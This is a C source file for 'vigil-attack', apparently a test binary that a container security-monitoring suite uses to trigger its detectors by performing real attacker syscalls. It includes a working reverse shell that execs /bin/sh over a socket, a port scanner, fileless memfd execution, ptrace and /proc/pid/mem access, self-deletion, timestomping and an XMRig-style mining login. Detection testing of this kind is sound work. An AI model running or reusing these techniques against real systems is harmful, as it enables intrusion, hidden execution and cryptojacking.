// SPDX-License-Identifier: Apache-2.0
/*
 * vigil-attack: performs, for real, the syscalls of attacker techniques that busybox cannot
 * (the scenario suite builds it statically and bind-mounts it into test containers). Each mode
 * does one technique and exits; nothing here is simulated.
 *
 *   connect HOST PORT [PAYLOAD]   TCP connect (and send PAYLOAD with send(2))
 *   revshell HOST PORT            connect, dup2 the socket onto 0/1/2, exec /bin/sh
 *   unixconnect PATH              connect to a unix socket (a container runtime's API)
 *   setuid0                       setuid(0)
 *   capset                        make every permitted capability effective
 *   memfd                         copy /bin/busybox into a memfd and execveat it (fileless)
 *   ptrace                        fork a child, PTRACE_ATTACH to it, detach, reap
 *   traceme                       PTRACE_TRACEME
 *   selfdelete                    unlink the running executable
 *   bpf                           load a two-instruction socket filter program
 *   rename NAME                   prctl(PR_SET_NAME, NAME)
 *   procmem                       fork a child, open /proc/<child>/mem for reading and writing
 *   scan HOST FIRST LAST          TCP connect scan of a port range
 *   uring-read PATH               open and read PATH through io_uring (raw syscalls, attack-io-uring.c)
 *   uring-sqpoll PATH             the same with an SQPOLL ring: no syscall per operation
 *   uring-write PATH DATA         append DATA to PATH (created if missing) through io_uring
 *   uring-connect HOST PORT [PAYLOAD]  TCP connect (and send PAYLOAD) through io_uring
 *   utime CALL PATH               set PATH's times to 2019-03-14 (timestomping) with CALL: utimensat,
 *                                 futimens, mtime-only, futimesat, utimes; or "now" (times NULL)
 *   chattr +i|-i|+a|-a PATH       immutable / append-only flag through FS_IOC_SETFLAGS (attack-tamper.c)
 *   fsxattr +i|-i|+a|-a PATH      the same through FS_IOC_FSSETXATTR
 *   fchmodat2 MODE PATH           chmod through fchmodat2(2), octal MODE
 *   setcap CALL PATH              file capabilities cap_setuid,cap_setgid+ep with CALL: setxattr,
 *                                 lsetxattr, fsetxattr
 *   xattr CALL PATH NAME VALUE    set another extended attribute with CALL
 *   uring-read PATH               open and read PATH through io_uring (raw syscalls, attack-io-uring.c)
 *   uring-sqpoll PATH             the same with an SQPOLL ring: no syscall per operation
 *   uring-write PATH DATA         append DATA to PATH (created if missing) through io_uring
 *   uring-connect HOST PORT [PAYLOAD]  TCP connect (and send PAYLOAD) through io_uring
 *   pattach PID [seize]           PTRACE_ATTACH (or PTRACE_SEIZE) to PID, detach; exit 2 when refused
 *   exec PATH [ARG...]            execv(2) PATH directly (no shell); exit 2 with the error when refused
 *   stratum write|writev HOST PORT [login]  TCP connect, send a Stratum mining.subscribe (or the XMRig
 *                                 login) with write(2) or writev(2) (two buffers), as libuv miners do
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/capability.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack-io-uring.c"
#include "attack-tamper.c"

static int tcp(const char *host, int port)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(port) };
	int s = socket(AF_INET, SOCK_STREAM, 0);
	if (s < 0 || inet_pton(AF_INET, host, &a.sin_addr) != 1)
		return -1;
	if (connect(s, (struct sockaddr *)&a, sizeof(a)) < 0) {
		close(s);
		return -1;
	}
	return s;
}

static pid_t sleeper(void)
{
	pid_t p = fork();
	if (p == 0) {
		pause();
		_exit(0);
	}
	usleep(50000);
	return p;
}

static void reap(pid_t p)
{
	kill(p, SIGKILL);
	waitpid(p, NULL, 0);
}

/* pattach PID [seize]: attach to a process that is not our child (refused without the privilege) */
static int attempt_pattach(int argc, char **argv)
{
	pid_t p;
	int seize;
	long r;

	if (argc < 3 || atoi(argv[2]) <= 0) {
		fprintf(stderr, "usage: vigil-attack pattach PID [seize]\n");
		return 1;
	}
	p = (pid_t)atoi(argv[2]);
	seize = argc > 3 && !strcmp(argv[3], "seize");
	r = ptrace(seize ? PTRACE_SEIZE : PTRACE_ATTACH, p, 0, 0);
	if (r < 0) {
		fprintf(stderr, "pattach %d: %s\n", (int)p, strerror(errno));
		return 2;
	}
	if (!seize)
		waitpid(p, NULL, __WALL);
	ptrace(PTRACE_DETACH, p, 0, 0);
	return 0;
}

/* exec PATH [ARG...]: one execve of PATH, without a shell's PATH search or ENOEXEC fallback */
static int attempt_exec(int argc, char **argv)
{
	if (argc < 3) {
		fprintf(stderr, "usage: vigil-attack exec PATH [ARG...]\n");
		return 1;
	}
	execv(argv[2], &argv[2]);
	fprintf(stderr, "exec %s: %s\n", argv[2], strerror(errno));
	return 2;
}

/* stratum write|writev HOST PORT [login]: a miner's first message on its pool socket, with write or writev */
static int stratum_write(int argc, char **argv)
{
	static const char sub_head[] = "{\"id\":1,\"method\":\"mining.subscribe\",";
	static const char sub_tail[] = "\"params\":[\"vigil-attack/1.0\"]}\n";
	static const char login_head[] = "{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"";
	static const char login_tail[] = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A\","
					 "\"pass\":\"x\",\"agent\":\"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0\"}}\n";
	int login = argc > 5 && !strcmp(argv[5], "login"), vec, s;
	const char *head = login ? login_head : sub_head, *tail = login ? login_tail : sub_tail;
	char whole[512];
	struct iovec iov[2];
	ssize_t n;

	if (argc < 5 || (strcmp(argv[2], "write") && strcmp(argv[2], "writev"))) {
		fprintf(stderr, "usage: vigil-attack stratum write|writev HOST PORT [login]\n");
		return 1;
	}
	vec = !strcmp(argv[2], "writev");
	s = tcp(argv[3], atoi(argv[4]));
	if (s < 0) {
		fprintf(stderr, "stratum: connect %s:%s: %s\n", argv[3], argv[4], strerror(errno));
		return 2;
	}
	if (vec) {
		iov[0].iov_base = (void *)head;
		iov[0].iov_len = strlen(head);
		iov[1].iov_base = (void *)tail;
		iov[1].iov_len = strlen(tail);
		n = writev(s, iov, 2);
	} else {
		snprintf(whole, sizeof(whole), "%s%s", head, tail);
		n = write(s, whole, strlen(whole));
	}
	if (n < 0)
		fprintf(stderr, "stratum: %s: %s\n", argv[2], strerror(errno));
	usleep(200000);
	close(s);
	return n < 0 ? 2 : 0;
}

int main(int argc, char **argv)
{
	const char *m = argc > 1 ? argv[1] : "";
	if (!strcmp(m, "pattach"))
		return attempt_pattach(argc, argv);
	if (!strcmp(m, "exec"))
		return attempt_exec(argc, argv);
	if (!strcmp(m, "stratum"))
		return stratum_write(argc, argv);
	if (!strcmp(m, "connect") && argc >= 4) {
		int s = tcp(argv[2], atoi(argv[3]));
		if (s < 0)
			return 2;
		if (argc >= 5)
			send(s, argv[4], strlen(argv[4]), 0);
		usleep(100000);
		close(s);
		return 0;
	}
	if (!strcmp(m, "revshell") && argc >= 4) {
		int s = tcp(argv[2], atoi(argv[3]));
		if (s < 0)
			return 2;
		dup2(s, 0);
		dup2(s, 1);
		dup2(s, 2);
		execl("/bin/sh", "sh", "-i", (char *)NULL);
		return 3;
	}
	if (!strcmp(m, "unixconnect") && argc >= 3) {
		struct sockaddr_un a = { .sun_family = AF_UNIX };
		int s = socket(AF_UNIX, SOCK_STREAM, 0);
		strncpy(a.sun_path, argv[2], sizeof(a.sun_path) - 1);
		return connect(s, (struct sockaddr *)&a, sizeof(a)) < 0 ? 2 : 0;
	}
	if (!strcmp(m, "setuid0"))
		return setuid(0) < 0 ? 2 : 0;
	if (!strcmp(m, "capset")) {
		struct __user_cap_header_struct h = { .version = _LINUX_CAPABILITY_VERSION_3 };
		struct __user_cap_data_struct d[2];
		if (syscall(SYS_capget, &h, d) < 0)
			return 2;
		d[0].effective = d[0].permitted;
		d[1].effective = d[1].permitted;
		return syscall(SYS_capset, &h, d) < 0 ? 3 : 0;
	}
	if (!strcmp(m, "memfd")) {
		int in = open("/bin/busybox", O_RDONLY), fd = memfd_create("payload", 0);
		char buf[65536];
		ssize_t n;
		char *args[] = { "true", NULL }, *env[] = { NULL };
		if (in < 0 || fd < 0)
			return 2;
		while ((n = read(in, buf, sizeof(buf))) > 0)
			if (write(fd, buf, n) != n)
				return 3;
		syscall(SYS_execveat, fd, "", args, env, AT_EMPTY_PATH);
		return 4;
	}
	if (!strcmp(m, "ptrace")) {
		pid_t p = sleeper();
		long r = ptrace(PTRACE_ATTACH, p, 0, 0);
		if (r == 0) {
			waitpid(p, NULL, 0);
			ptrace(PTRACE_DETACH, p, 0, 0);
		}
		reap(p);
		return r == 0 ? 0 : 2;
	}
	if (!strcmp(m, "traceme"))
		return ptrace(PTRACE_TRACEME, 0, 0, 0) < 0 ? 2 : 0;
	if (!strcmp(m, "selfdelete")) {
		char self[4096];
		ssize_t n = readlink("/proc/self/exe", self, sizeof(self) - 1);
		if (n <= 0)
			return 2;
		self[n] = 0;
		return unlink(self) < 0 ? 3 : 0;
	}
	if (!strcmp(m, "bpf")) {
		struct bpf_insn prog[] = {
			{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 0, .imm = 0 },
			{ .code = BPF_JMP | BPF_EXIT },
		};
		union bpf_attr a;
		memset(&a, 0, sizeof(a));
		a.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
		a.insns = (unsigned long)prog;
		a.insn_cnt = 2;
		a.license = (unsigned long)"GPL";
		int fd = syscall(SYS_bpf, BPF_PROG_LOAD, &a, sizeof(a));
		if (fd >= 0)
			close(fd);
		return fd < 0 ? 2 : 0;
	}
	if (!strcmp(m, "rename") && argc >= 3) {
		prctl(PR_SET_NAME, argv[2], 0, 0, 0);
		usleep(100000);
		return 0;
	}
	if (!strcmp(m, "procmem")) {
		char path[64];
		pid_t p = sleeper();
		int r, w;
		snprintf(path, sizeof(path), "/proc/%d/mem", p);
		r = open(path, O_RDONLY);
		w = open(path, O_WRONLY);
		reap(p);
		return r < 0 || w < 0 ? 2 : 0;
	}
	if (!strcmp(m, "scan") && argc >= 5) {
		for (int port = atoi(argv[3]); port <= atoi(argv[4]); port++) {
			int s = tcp(argv[2], port);
			if (s >= 0)
				close(s);
		}
		return 0;
	}
	if (!strcmp(m, "uring-read") && argc >= 3)
		return mode_uring_read(argv[2], 0);
	if (!strcmp(m, "uring-sqpoll") && argc >= 3)
		return mode_uring_read(argv[2], 1);
	if (!strcmp(m, "uring-write") && argc >= 4)
		return mode_uring_write(argv[2], argv[3]);
	if (!strcmp(m, "uring-connect") && argc >= 4)
		return mode_uring_connect(argv[2], atoi(argv[3]), argc >= 5 ? argv[4] : NULL);
	if (!strcmp(m, "utime") && argc >= 4)
		return mode_utime(argv[2], argv[3]);
	if (!strcmp(m, "chattr") && argc >= 4)
		return mode_chattr(argv[2], argv[3]);
	if (!strcmp(m, "fsxattr") && argc >= 4)
		return mode_fsxattr(argv[2], argv[3]);
	if (!strcmp(m, "fchmodat2") && argc >= 4)
		return mode_fchmodat2(argv[2], argv[3]);
	if (!strcmp(m, "setcap") && argc >= 4)
		return mode_setcap(argv[2], argv[3]);
	if (!strcmp(m, "xattr") && argc >= 6)
		return mode_xattr(argv[2], argv[3], argv[4], argv[5]);
	fprintf(stderr, "usage: see the header of attack.c\n");
	return 64;
}
